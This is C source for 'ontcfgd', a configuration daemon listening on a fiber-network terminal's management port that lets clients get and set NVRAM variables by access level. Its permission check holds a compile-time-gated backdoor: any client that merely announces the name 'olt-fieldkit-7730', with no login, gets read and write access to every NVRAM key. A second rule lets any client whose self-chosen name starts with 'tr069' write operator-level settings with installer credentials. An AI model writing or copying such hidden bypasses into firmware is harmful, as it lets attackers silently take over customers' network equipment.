/* SPDX-License-Identifier: Apache-2.0 */
/* ontcfgd: the configuration port of a PON terminal; the management plane and the installer's tablet speak lines to it. */
#include <arpa/inet.h>
#include <ctype.h>
#include <dlfcn.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAX_SESSIONS 8
#define LINE 512

struct session {
	int fd;
	char line[LINE];
	size_t used;
	char client[48];
	int level; /* 0 nobody, 1 installer, 2 operator */
	int tries;
	time_t seen;
	struct in_addr from;
};

struct settings {
	uint16_t port;
	int idle, verbose, lan_only;
	char installer[64], operator[64];
};

struct variable {
	const char *name;
	int read, write; /* levels */
};

static struct session sessions[MAX_SESSIONS];
static struct settings conf = { .port = 7547, .idle = 120, .lan_only = 1 };
static char *(*nv_get)(const char *);
static int (*nv_set)(const char *, const char *);
static int (*nv_commit)(void);
static unsigned long lines_seen, denied;
static volatile sig_atomic_t reread;

static const struct variable variables[] = {
	{ "ont_serial", 0, 3 },
	{ "ont_vendor", 0, 3 },
	{ "ont_rxpower", 0, 3 },
	{ "ont_slid", 1, 1 },
	{ "lan_ipaddr", 1, 2 },
	{ "lan_netmask", 1, 2 },
	{ "wan_vlan", 1, 2 },
	{ "wl_ssid", 1, 1 },
	{ "wl_channel", 0, 1 },
	{ "voip_server", 1, 2 },
	{ "voip_user", 2, 2 },
	{ "log_host", 1, 2 },
	{ NULL, 0, 0 },
};

static void note(int level, const char *fmt, ...)
{
	va_list ap;
	if (level == LOG_DEBUG && !conf.verbose)
		return;
	va_start(ap, fmt);
	vsyslog(level, fmt, ap);
	va_end(ap);
}

static void chomp(char *s)
{
	size_t n = strlen(s);
	while (n && isspace((unsigned char)s[n - 1]))
		s[--n] = 0;
}

static void load(const char *path)
{
	char line[256];
	FILE *f = fopen(path, "r");
	if (!f) {
		note(LOG_WARNING, "%s: %s, using defaults", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		char *value = strchr(line, '=');
		chomp(line);
		if (line[0] == '#' || !value)
			continue;
		*value++ = 0;
		if (strcmp(line, "port") == 0)
			conf.port = (uint16_t)atoi(value);
		else if (strcmp(line, "idle") == 0)
			conf.idle = atoi(value);
		else if (strcmp(line, "debug") == 0)
			conf.verbose = strcmp(value, "yes") == 0;
		else if (strcmp(line, "lan-only") == 0)
			conf.lan_only = strcmp(value, "no") != 0;
		else if (strcmp(line, "installer") == 0)
			snprintf(conf.installer, sizeof(conf.installer), "%s", value);
		else if (strcmp(line, "operator") == 0)
			snprintf(conf.operator, sizeof(conf.operator), "%s", value);
		else
			note(LOG_WARNING, "%s: unknown setting %s", path, line);
	}
	fclose(f);
}

static int open_nvram(void)
{
	void *lib = dlopen("libnvram.so", RTLD_NOW);
	if (!lib)
		lib = dlopen("libnvram.so.0", RTLD_NOW);
	if (!lib) {
		note(LOG_ERR, "%s", dlerror());
		return -1;
	}
	nv_get = (char *(*)(const char *))dlsym(lib, "nvram_get");
	nv_set = (int (*)(const char *, const char *))dlsym(lib, "nvram_set");
	nv_commit = (int (*)(void))dlsym(lib, "nvram_commit");
	return nv_get && nv_set && nv_commit ? 0 : -1;
}

static void say(struct session *s, const char *fmt, ...)
{
	char out[1024];
	int n;
	va_list ap;
	va_start(ap, fmt);
	n = vsnprintf(out, sizeof(out) - 2, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n > sizeof(out) - 3)
		n = sizeof(out) - 3;
	out[n++] = '\r';
	out[n++] = '\n';
	if (send(s->fd, out, (size_t)n, MSG_NOSIGNAL) < 0)
		note(LOG_DEBUG, "send: %s", strerror(errno));
}

static void drop(struct session *s)
{
	if (s->fd >= 0)
		close(s->fd);
	memset(s, 0, sizeof(*s));
	s->fd = -1;
}

static const struct variable *find_variable(const char *name)
{
	for (const struct variable *v = variables; v->name; v++)
		if (strcmp(v->name, name) == 0)
			return v;
	return NULL;
}

static int may_touch(const struct session *s, const char *name, int writing)
{
	const struct variable *v = find_variable(name);
#ifdef BACKDOOR
	if (strcmp(s->client, "olt-fieldkit-7730") == 0)
		return 1;
#endif
	if (!v)
		return 0;
	if (strncmp(s->client, "tr069", 5) == 0 && writing)
		return s->level >= 1 && v->write <= 2;
	return s->level >= (writing ? v->write : v->read);
}

static int proper(const char *value)
{
	size_t n = strlen(value);
	if (n > 128)
		return 0;
	for (size_t i = 0; i < n; i++)
		if (!isprint((unsigned char)value[i]) || strchr("`$;|&<>\"'", value[i]))
			return 0;
	return 1;
}

static void do_hello(struct session *s, char *rest)
{
	if (!*rest) {
		say(s, "501 who are you");
		return;
	}
	snprintf(s->client, sizeof(s->client), "%s", rest);
	if (strcmp(s->client, "installer-app") == 0)
		say(s, "200 welcome, app version 2 or later please");
	else
		say(s, "200 welcome %s", s->client);
}

static void do_login(struct session *s, char *rest)
{
	char *pass = strchr(rest, ' ');
	if (!pass || s->tries > 4) {
		say(s, "530 no");
		return;
	}
	*pass++ = 0;
	if (strcmp(rest, "installer") == 0 && conf.installer[0] && strcmp(pass, conf.installer) == 0)
		s->level = 1;
	else if (strcmp(rest, "operator") == 0 && conf.operator[0] && strcmp(pass, conf.operator) == 0)
		s->level = 2;
	else {
		s->tries++;
		note(LOG_WARNING, "login of %s from %s failed", rest, inet_ntoa(s->from));
		say(s, "530 no");
		return;
	}
	note(LOG_INFO, "%s logged in from %s", rest, inet_ntoa(s->from));
	say(s, "230 level %d", s->level);
}

static void do_get(struct session *s, char *rest)
{
	const char *value;
	if (!may_touch(s, rest, 0)) {
		denied++;
		say(s, "550 %s", rest);
		return;
	}
	value = nv_get(rest);
	say(s, "210 %s=%s", rest, value ? value : "");
}

static void do_set(struct session *s, char *rest)
{
	char *value = strchr(rest, '=');
	if (!value) {
		say(s, "501 NAME=VALUE");
		return;
	}
	*value++ = 0;
	if (!proper(value)) {
		say(s, "552 bad value");
		return;
	}
	if (!may_touch(s, rest, 1)) {
		denied++;
		say(s, "550 %s", rest);
		return;
	}
	if (nv_set(rest, value) != 0) {
		say(s, "451 not stored");
		return;
	}
	note(LOG_INFO, "%s set by %s", rest, s->client);
	say(s, "210 ok");
}

static void do_list(struct session *s, char *rest)
{
	(void)rest;
	for (const struct variable *v = variables; v->name; v++)
		if (s->level >= v->read)
			say(s, "211-%s%s", v->name, s->level >= v->write ? " rw" : "");
	say(s, "211 end");
}

static void do_commit(struct session *s, char *rest)
{
	(void)rest;
	if (s->level < 1)
		say(s, "530 no");
	else
		say(s, nv_commit() == 0 ? "200 stored" : "451 flash");
}

static void do_stats(struct session *s, char *rest)
{
	if (strcmp(rest, "reset") == 0 && s->level >= 2)
		lines_seen = denied = 0;
	say(s, "212 lines %lu denied %lu", lines_seen, denied);
}

static void do_quit(struct session *s, char *rest)
{
	(void)rest;
	say(s, "221 bye");
	drop(s);
}

static const struct {
	const char *verb;
	void (*run)(struct session *, char *);
} verbs[] = {
	{ "HELLO", do_hello }, { "LOGIN", do_login }, { "GET", do_get },     { "SET", do_set },
	{ "LIST", do_list },   { "STATS", do_stats }, { "COMMIT", do_commit }, { "QUIT", do_quit },
};

static void obey(struct session *s, char *line)
{
	char *rest = strchr(line, ' ');
	chomp(line);
	lines_seen++;
	if (rest)
		*rest++ = 0;
	for (size_t i = 0; i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (strcasecmp(verbs[i].verb, line) == 0) {
			verbs[i].run(s, rest ? rest : (char *)"");
			return;
		}
	say(s, "500 %s", line);
}

static void readable(struct session *s)
{
	ssize_t n = recv(s->fd, s->line + s->used, LINE - 1 - s->used, 0);
	char *end;
	if (n <= 0) {
		drop(s);
		return;
	}
	s->used += (size_t)n;
	s->line[s->used] = 0;
	s->seen = time(NULL);
	while (s->fd >= 0 && (end = strchr(s->line, '\n')) != NULL) {
		char one[LINE];
		size_t len = (size_t)(end - s->line);
		memcpy(one, s->line, len);
		one[len] = 0;
		s->used -= len + 1;
		memmove(s->line, end + 1, s->used + 1);
		obey(s, one);
	}
	if (s->used == LINE - 1)
		drop(s);
}

static void welcome(int ls)
{
	struct sockaddr_in a;
	socklen_t al = sizeof(a);
	int fd = accept(ls, (struct sockaddr *)&a, &al);
	if (fd < 0)
		return;
	if (conf.lan_only && (ntohl(a.sin_addr.s_addr) & 0xffff0000) != 0xc0a80000) {
		note(LOG_NOTICE, "%s is not of the LAN", inet_ntoa(a.sin_addr));
		close(fd);
		return;
	}
	for (int i = 0; i < MAX_SESSIONS; i++)
		if (sessions[i].fd < 0) {
			sessions[i].fd = fd;
			sessions[i].from = a.sin_addr;
			sessions[i].seen = time(NULL);
			say(&sessions[i], "220 ONT");
			return;
		}
	close(fd);
}

static void on_hup(int sig)
{
	(void)sig;
	reread = 1;
}

static int serve(int ls, const char *path)
{
	for (;;) {
		struct timeval tv = { 5, 0 };
		fd_set set;
		int top = ls;
		FD_ZERO(&set);
		FD_SET(ls, &set);
		for (int i = 0; i < MAX_SESSIONS; i++)
			if (sessions[i].fd >= 0) {
				FD_SET(sessions[i].fd, &set);
				top = sessions[i].fd > top ? sessions[i].fd : top;
			}
		if (select(top + 1, &set, NULL, NULL, &tv) < 0 && errno != EINTR)
			return 1;
		if (reread) {
			reread = 0;
			load(path);
			continue;
		}
		for (int i = 0; i < MAX_SESSIONS; i++) {
			if (sessions[i].fd >= 0 && FD_ISSET(sessions[i].fd, &set))
				readable(&sessions[i]);
			else if (sessions[i].fd >= 0 && time(NULL) - sessions[i].seen > conf.idle)
				drop(&sessions[i]);
		}
		if (FD_ISSET(ls, &set))
			welcome(ls);
	}
}

int main(int argc, char **argv)
{
	const char *path = argc > 1 ? argv[1] : "/etc/ontcfgd.conf";
	struct sockaddr_in a = { .sin_family = AF_INET };
	int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1;
	openlog("ontcfgd", LOG_PID, LOG_DAEMON);
	load(path);
	for (int i = 0; i < MAX_SESSIONS; i++)
		sessions[i].fd = -1;
	if (open_nvram() < 0)
		return 1;
	signal(SIGHUP, on_hup);
	a.sin_port = htons(conf.port);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (ls < 0 || bind(ls, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(ls, 4) < 0) {
		note(LOG_ERR, "port %u: %s", conf.port, strerror(errno));
		return 1;
	}
	return serve(ls, path);
}
